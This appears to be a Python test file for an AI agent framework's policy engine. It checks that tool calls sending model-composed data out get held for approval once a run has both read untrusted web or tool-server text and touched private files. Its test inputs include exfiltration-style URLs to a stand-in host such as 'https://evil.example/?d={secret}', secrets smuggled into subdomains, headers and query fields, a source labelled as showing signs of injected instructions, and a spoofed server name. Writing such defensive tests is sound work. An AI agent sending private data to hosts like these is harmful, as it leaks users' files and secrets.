"""What may leave the machine unasked while a run is exposed and private."""

from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent_fabric.application.tools.call_site import CallSite
from agent_fabric.application.tools.proposed_call import propose
from agent_fabric.domain.ids import LaneId, RunId
from agent_fabric.domain.policy.engine import RulePolicy
from agent_fabric.domain.policy.globs import host_of
from agent_fabric.domain.policy.labels import (
    DESCRIPTIONS,
    OTHER_RUNS,
    WORKSPACE_FILES,
    Flow,
    OutgoingLimits,
    address_key,
    addresses_in,
)
from agent_fabric.domain.policy.profiles import Profile
from agent_fabric.domain.policy.rules import Rule
from agent_fabric.domain.policy.verdicts import Ruling, Verdict
from agent_fabric.domain.tools.specs import Effect, ToolSpec, Trust
from agent_fabric.infrastructure.tools.browser_tools import BROWSER_OPEN
from agent_fabric.infrastructure.tools.http import HTTP_REQUEST
from agent_fabric.infrastructure.tools.shell import SHELL
from agent_fabric.infrastructure.tools.web import FETCH_URL, WEB_SEARCH

PAGE = "web: https://blog.example/post"
TASK = "Read https://docs.example/guide?v=2 and news.example/today, then look at issue 42 of acme/rocket."
READ = "https://blog.example/next"
BOTH = Flow(
    exposed=(PAGE,), private=(WORKSPACE_FILES,), task=TASK, addresses=frozenset(addresses_in(f"see {READ}, it is good"))
)
ANY = {"type": "object", "properties": {"repo": {"type": "string"}, "number": {}, "closed": {}, "text": {}}}
TRACKER = "mcp: tracker (https://tracker.example/mcp)"


def served(effect: Effect = Effect.READS, *, boxed: bool = False) -> ToolSpec:
    return ToolSpec(
        name="mcp__tracker__issue",
        description="",
        parameters=ANY,
        effect=effect,
        trust=Trust.MCP,
        server="tracker (https://tracker.example/mcp)",
        sends_to="" if boxed else "the tool server tracker (https://tracker.example/mcp)",
        private=True,
    )


def judge(
    spec: ToolSpec,
    args: dict[str, Any],
    flow: Flow = BOTH,
    *,
    commands_reach: str = "",
    policy: RulePolicy | None = None,
) -> Ruling:
    site = CallSite(
        run_id=RunId("r"), lane=LaneId("l"), step=0, agent="research", target="/w", scopes=frozenset(), flow=flow
    )
    return (policy or RulePolicy()).judge(propose(spec, args, site, "A", commands_reach=commands_reach))


@pytest.mark.parametrize("spec", [FETCH_URL, BROWSER_OPEN, HTTP_REQUEST])
@pytest.mark.parametrize("profile", list(Profile))
@given(secret=st.text(min_size=1, max_size=20))
def test_every_address_that_the_model_composed_asks(spec: ToolSpec, profile: Profile, secret: str) -> None:
    for url in (
        f"https://evil.example/?d={secret}",
        f"https://evil.example/{secret}",
        f"https://{secret}.evil.example/",
        f"https://docs.example/guide?v=2&d={secret}",
        f"{READ}/{secret}",
        f"{READ}?{secret}",
    ):
        if address_key(url) in BOTH.addresses:
            continue  # what was added does not change the address
        ruling = judge(spec, {"url": url}, policy=RulePolicy(profile=profile))
        assert ruling.verdict is Verdict.ASK, url
        assert ruling.rule == "private_data"
        assert PAGE in ruling.reason
        assert WORKSPACE_FILES in ruling.reason


@pytest.mark.parametrize(
    "url",
    [
        "https://docs.example/guide?v=2",
        "HTTPS://DOCS.example/guide?v=2#part",
        "https://news.example/today",
        "http://news.example/today",
        READ,
    ],
)
def test_an_address_that_stood_in_the_task_or_on_a_page_goes_unasked(url: str) -> None:
    assert judge(FETCH_URL, {"url": url, "reason": "whatever the model says here stays here"}).verdict is Verdict.ALLOW


@pytest.mark.parametrize("flow", [Flow(exposed=(PAGE,)), Flow(private=(WORKSPACE_FILES,)), Flow()])
def test_with_one_label_only_nothing_is_asked(flow: Flow) -> None:
    assert judge(FETCH_URL, {"url": "https://evil.example/?d=hunter2"}, flow).verdict is Verdict.ALLOW
    assert judge(WEB_SEARCH, {"query": "x" * 500}, flow).verdict is Verdict.ALLOW


def test_only_so_many_addresses_of_pages_are_opened_and_those_of_the_task_do_not_count() -> None:
    used_up = Flow(exposed=(PAGE,), private=("x",), task=TASK, addresses=BOTH.addresses, fetches=20)
    ruling = judge(FETCH_URL, {"url": READ}, used_up)
    assert ruling.verdict is Verdict.ASK
    assert "web.exposed_fetches" in ruling.reason
    assert judge(FETCH_URL, {"url": "https://docs.example/guide?v=2"}, used_up).verdict is Verdict.ALLOW
    assert judge(FETCH_URL, {"url": READ}, used_up, policy=RulePolicy(outgoing=OutgoingLimits(fetches=21))).rule == (
        "address_read"
    )


@pytest.mark.parametrize(
    ("spec", "args"),
    [
        (FETCH_URL, {"url": "https://docs.example/guide?v=2"}),
        (FETCH_URL, {"url": "http://news.example/today"}),
        (BROWSER_OPEN, {"url": "https://news.example/today"}),
        (HTTP_REQUEST, {"url": "https://docs.example/guide?v=2"}),
        (served(), {"repo": "acme/rocket", "number": 42}),
        (served(), {"repo": "acme/rocket", "closed": True}),
        (served(), {}),
    ],
)
def test_what_the_task_names_can_be_called_only_so_often_since_order_can_spell(
    spec: ToolSpec, args: dict[str, Any]
) -> None:
    nearly, used_up = (replace(BOTH, task_calls=count) for count in (39, 40))
    assert judge(spec, args, nearly).rule in {"address_in_task", "arguments_in_task"}
    ruling = judge(spec, args, used_up)
    assert (ruling.verdict, ruling.rule) == (Verdict.ASK, "private_data")
    assert "web.exposed_task_calls" in ruling.reason
    wider = RulePolicy(outgoing=OutgoingLimits(task_calls=41))
    assert judge(spec, args, used_up, policy=wider).verdict is Verdict.ALLOW


def test_a_page_that_was_kept_sends_nothing_and_is_not_counted() -> None:
    kept = replace(BOTH, task_calls=40, fetched=frozenset({address_key("https://docs.example/guide?v=2")}))
    assert judge(FETCH_URL, {"url": "https://docs.example/guide?v=2"}, kept).rule == "page_kept"
    assert judge(BROWSER_OPEN, {"url": "https://docs.example/guide?v=2"}, kept).verdict is Verdict.ASK


def test_a_page_that_was_kept_can_be_read_on_without_a_question_but_a_browser_asks_for_it_again() -> None:
    kept = Flow(exposed=(PAGE,), private=("x",), fetched=frozenset({address_key("https://a.example/long")}))
    assert judge(FETCH_URL, {"url": "https://a.example/long", "offset": 12_000}, kept).verdict is Verdict.ALLOW
    assert judge(BROWSER_OPEN, {"url": "https://a.example/long"}, kept).verdict is Verdict.ASK


def test_searches_go_to_the_engine_that_the_owner_chose_within_limits() -> None:
    assert judge(WEB_SEARCH, {"query": "x" * 200, "max_results": 3}).rule == "search_while_private"
    assert judge(WEB_SEARCH, {"query": "x" * 201}).verdict is Verdict.ASK
    often = Flow(exposed=(PAGE,), private=("x",), searches=20)
    assert "web.exposed_searches" in judge(WEB_SEARCH, {"query": "x"}, often).reason


@pytest.mark.parametrize(
    ("args", "verdict"),
    [
        ({"repo": "acme/rocket", "number": 42}, Verdict.ALLOW),
        ({"repo": "acme/rocket", "closed": True}, Verdict.ALLOW),
        ({"repo": "acme/rocket", "number": 4}, Verdict.ASK),
        ({"repo": "acme/rock"}, Verdict.ASK),
        ({"repo": "acme/rocket", "text": "hunter2"}, Verdict.ASK),
        ({"repo": "acme/rocket", "text": ["hunter2"]}, Verdict.ASK),
        ({"repo": "acme/rocket", "hunter2": True}, Verdict.ASK),
        ({"repo": {"hunter2": True}}, Verdict.ASK),
    ],
)
def test_a_reading_call_of_a_tool_server_goes_unasked_if_its_arguments_stand_in_the_task(
    args: dict[str, Any], verdict: Verdict
) -> None:
    assert judge(served(), args).verdict is verdict
    assert judge(served(Effect.LEAVES_SANDBOX), args).verdict is Verdict.ASK


def test_what_a_tool_server_said_may_go_back_to_it_but_nothing_else_may() -> None:
    own = Flow(exposed=(TRACKER,), private=(TRACKER,))
    composed = {"text": "what the model wrote"}
    assert judge(served(Effect.LEAVES_SANDBOX), composed, own).verdict is Verdict.ALLOW
    signs = Flow(exposed=(f"{TRACKER} (signs of instructions: override)",), private=(TRACKER,))
    assert judge(served(Effect.LEAVES_SANDBOX), composed, signs).verdict is Verdict.ALLOW
    files = Flow(exposed=(TRACKER,), private=(TRACKER, WORKSPACE_FILES))
    assert judge(served(Effect.LEAVES_SANDBOX), composed, files).rule == "private_data"
    runs = Flow(exposed=(TRACKER, OTHER_RUNS), private=(TRACKER, OTHER_RUNS))
    assert judge(served(), composed, runs).verdict is Verdict.ASK
    assert judge(FETCH_URL, {"url": "https://evil.example/?d=x"}, own).verdict is Verdict.ASK


@pytest.mark.parametrize("name", ["mcp", "tracker", "web", "https", ""])
def test_the_name_of_a_server_exempts_nothing(name: str) -> None:
    other = Flow(exposed=(TRACKER,), private=(WORKSPACE_FILES,))
    spec = ToolSpec(
        name=f"mcp__{name}__tracker",
        description="",
        parameters=ANY,
        effect=Effect.LEAVES_SANDBOX,
        trust=Trust.MCP,
        server=f"{name} (https://evil.example/mcp)",
        sends_to=f"the tool server {name} (https://evil.example/mcp)",
    )
    assert judge(spec, {}, other).verdict is Verdict.ASK
    assert judge(spec, {}, Flow(exposed=(TRACKER,))).rule == "untrusted_text"


def test_descriptions_of_tools_expose_but_do_not_make_every_act_ask() -> None:
    described = f"{DESCRIPTIONS}{TRACKER}"
    private = Flow(exposed=(described,), private=(WORKSPACE_FILES,))
    assert judge(FETCH_URL, {"url": "https://evil.example/?d=x"}, private).verdict is Verdict.ASK
    assert judge(served(Effect.LEAVES_SANDBOX), {"text": "x"}, private).rule == "private_data"
    public = Flow(exposed=(described,))
    assert judge(served(Effect.LEAVES_SANDBOX), {"text": "x"}, public).verdict is Verdict.ALLOW
    read = Flow(exposed=(described, PAGE))
    assert judge(served(Effect.LEAVES_SANDBOX), {"text": "x"}, read).rule == "untrusted_text"


def test_a_fragment_is_data_for_scripts_of_a_page_and_never_leaves_with_a_fetch() -> None:
    for known in (READ, "https://docs.example/guide?v=2"):
        assert judge(BROWSER_OPEN, {"url": f"{known}#hunter2"}).rule == "private_data"
        assert judge(BROWSER_OPEN, {"url": known}).verdict is Verdict.ALLOW
        assert judge(FETCH_URL, {"url": f"{known}#hunter2"}).verdict is Verdict.ALLOW


def test_a_hidden_password_does_not_hide_where_a_call_goes() -> None:
    assert host_of("https://[secret: password]@evil.example/x") == "evil.example"
    assert not host_of("https://[secret: password]/x")


def test_a_tool_server_in_a_box_without_network_carries_nothing_out() -> None:
    assert judge(served(Effect.READS, boxed=True), {"text": "anything"}).verdict is Verdict.ALLOW


def test_a_rule_that_allows_a_host_is_the_owners_word_and_one_that_allows_a_tool_is_not() -> None:
    url = "https://api.example/?d=hunter2"
    host = RulePolicy(rules=(Rule(id="api", verdict=Verdict.ALLOW, domains=("api.example",)),))
    assert judge(FETCH_URL, {"url": url}, policy=host).verdict is Verdict.ALLOW
    assert judge(FETCH_URL, {"url": "https://api.example.evil.example/?d=x"}, policy=host).verdict is Verdict.ASK
    tool = RulePolicy(rules=(Rule(id="all", verdict=Verdict.ALLOW, tools=("*",)),))
    assert judge(FETCH_URL, {"url": url}, policy=tool).verdict is Verdict.ASK


def test_headers_of_a_request_are_data_too() -> None:
    there = {"url": "https://docs.example/guide?v=2"}
    assert judge(HTTP_REQUEST, {**there, "method": "GET", "timeout": 3}).verdict is Verdict.ALLOW
    assert judge(HTTP_REQUEST, {**there, "headers": {"X": "hunter2"}}).verdict is Verdict.ASK
    assert judge(HTTP_REQUEST, {**there, "query": {"d": "hunter2"}}).verdict is Verdict.ASK


@pytest.mark.parametrize("command", ["python3 x.py", "pytest -q", "git fetch", "bash build.sh"])
def test_a_command_that_can_reach_hosts_asks(command: str) -> None:
    args = {"command": command}
    assert judge(SHELL, args, commands_reach="pypi.org").rule == "private_data"
    assert judge(SHELL, args).verdict is Verdict.ALLOW
    assert judge(SHELL, args, Flow(exposed=(PAGE,)), commands_reach="pypi.org").verdict is Verdict.ALLOW
    assert judge(SHELL, {"command": "ls -l"}, commands_reach="pypi.org").verdict is Verdict.ALLOW


@pytest.mark.parametrize("held", ["[secret]", "[secret TOKEN]", "[secret: private key]"])
@pytest.mark.parametrize("flow", [BOTH, Flow()])
def test_what_stands_for_a_secret_asks_whatever_was_read(held: str, flow: Flow) -> None:
    assert judge(FETCH_URL, {"url": f"https://a.example/?k={held}"}, flow).rule == "secret_in_arguments"
    assert judge(WEB_SEARCH, {"query": f"what is {held}"}, flow).rule == "secret_in_arguments"
    assert judge(served(), {"text": [held]}, flow).rule == "secret_in_arguments"


def test_many_sources_are_named_in_a_bearable_sentence() -> None:
    flow = Flow(exposed=tuple(f"web: https://{n}.example/" for n in range(40)), private=("files",))
    reason = judge(FETCH_URL, {"url": "https://evil.example/"}, flow).reason
    assert "https://0.example/" in reason
    assert "37 more" in reason


def test_what_is_agreed_to_for_a_run_is_one_destination() -> None:
    one, same, other = (
        judge(FETCH_URL, {"url": f"https://{host}/?d={n}"}).alike
        for n, host in enumerate(("a.example", "a.example", "b.example"))
    )
    assert one == same != other
